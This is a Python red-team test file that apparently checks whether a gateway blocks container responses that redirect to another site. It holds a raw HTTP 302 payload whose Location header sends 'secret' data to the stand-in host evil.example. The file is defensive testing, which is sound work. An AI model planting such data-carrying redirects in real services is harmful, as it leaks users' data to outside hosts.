"""Answer with a redirect that carries data to another site.

Way: gateway
Control: configurable-http-proxy straight to the same server
Held by: redirects of the container are refused
"""

from tests.redteam.roads import evil_server

PAYLOAD = b"HTTP/1.1 302 Found\r\nContent-Type: application/json\r\nLocation: http://evil.example/?data=secret\r\nContent-Length: 2\r\nConnection: close\r\n\r\n[]"
REPEAT = b""


def test_control_it_passes_a_plain_proxy(open_road) -> None:
    with open_road(PAYLOAD, REPEAT) as answer:
        assert answer.headers["location"].startswith("http://evil.example")


def test_the_gateway_lets_nothing_of_it_through(evil_session) -> None:
    with evil_server(evil_session, PAYLOAD, REPEAT):
        answer = evil_session.get("/api/kernels")
    assert "location" not in answer.headers
    assert "evil.example" not in answer.text
